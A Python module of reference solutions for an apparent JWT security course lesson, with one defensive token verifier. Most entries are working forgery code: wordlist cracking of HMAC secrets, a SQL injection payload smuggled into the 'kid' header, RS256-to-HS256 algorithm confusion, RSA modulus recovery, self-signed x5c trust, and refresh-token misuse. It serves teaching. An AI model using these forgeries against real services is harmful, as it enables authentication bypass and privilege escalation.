"""Reference solutions of lesson 06's exercises, by class name: what ``qN.solution()`` shows.

Kept apart from the checks (``coursekit.exercises.ex06``) so that a classroom build can leave them out.
"""

SOLUTIONS = {
    "CrackAndForge": """
        def forge(token: str) -> str:
            head, payload, signature = token.split(".")
            signing_input = f"{head}.{payload}".encode()
            secret = next(word.encode() for word in wordlist()
                          if b64url(hmac.new(word.encode(), signing_input, hashlib.sha256).digest()) == signature)
            admin_claims = {**json.loads(decode_segment(payload)), "roles": ["admin"]}
            return hs256_by_hand(jwt.get_unverified_header(token), admin_claims, secret)
    """,
    "InjectTheKid": """
        import secrets

        def forge(token: str) -> str:
            secret = secrets.token_bytes(32)                  # bytes, not text: a blob literal carries them
            admin_claims = {**claims(token), "roles": ["admin"]}
            header = {"alg": "HS256", "typ": "at+jwt", "kid": f"x' UNION SELECT X'{secret.hex()}' --"}
            return hs256_by_hand(header, admin_claims, secret)
    """,
    "ConfuseTheAlgorithm": """
        def forge(token: str, jwks: dict) -> str:
            kid = jwt.get_unverified_header(token)["kid"]          # the key the server will look up
            public_key = RSAAlgorithm.from_jwk(next(k for k in jwks["keys"] if k["kid"] == kid))
            pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
            admin_claims = {**claims(token), "roles": ["admin"]}
            header = {**jwt.get_unverified_header(token), "alg": "HS256"}
            return hs256_by_hand(header, admin_claims, pem)
    """,
    "VerifyAgainstTheBattery": """
        def verify(token: str, lab) -> dict:
            header = jwt.get_unverified_header(token)
            typ = str(header.get("typ", "")).lower()                   # a media type: any case, prefix optional
            if typ.removeprefix("application/") != "at+jwt":          # RFC 9068 §4: an access token
                raise jwt.InvalidTokenError("not an access token")
            keys = jwt.PyJWKSet.from_dict(lab.http.get(lab.url + "/.well-known/jwks.json").json())
            key = keys[header["kid"]]                                 # only the server's own keys
            verified = jwt.decode(token, key, algorithms=["RS256"], audience="lab-api",
                                  issuer=lab.settings.issuer_id,
                                  options={"require": ["exp", "iss", "aud"],
                                           "verify_exp": False, "verify_iat": False})  # the lab's clock, below
            if lab.clock.now() >= verified["exp"]:                   # no leeway (the course allows up to 60 s)
                raise jwt.ExpiredSignatureError("expired by the lab clock")
            return verified
    """,
    "RecoverTheUnpublishedKey": """
        def forge(token1: str, token2: str) -> str:
            n = recover_rsa_modulus([token1, token2], e=3)
            public_key = rsa.RSAPublicNumbers(3, n).public_key()
            pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
            header = {**jwt.get_unverified_header(token1), "alg": "HS256"}
            return hs256_by_hand(header, {**claims(token1), "roles": ["admin"]}, pem)
    """,
    "TrustTheCertificate": """
        def forge(token: str) -> str:
            key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
            header = {"typ": "at+jwt", "kid": "mine", "x5c": x5c_of(self_signed_certificate(key))}
            return jwt.encode({**claims(token), "roles": ["admin"]}, key, algorithm="RS256", headers=header)
    """,
    "RenewSomeoneElse": """
        def renew(url: str, bob_refresh_token: str, alice_expired_access_token: str) -> dict:
            r = requests.post(url + "/oauth/token",
                              data={"grant_type": "refresh_token", "refresh_token": bob_refresh_token},
                              headers={"Authorization": "Bearer " + alice_expired_access_token})
            r.raise_for_status()
            return r.json()
    """,
}
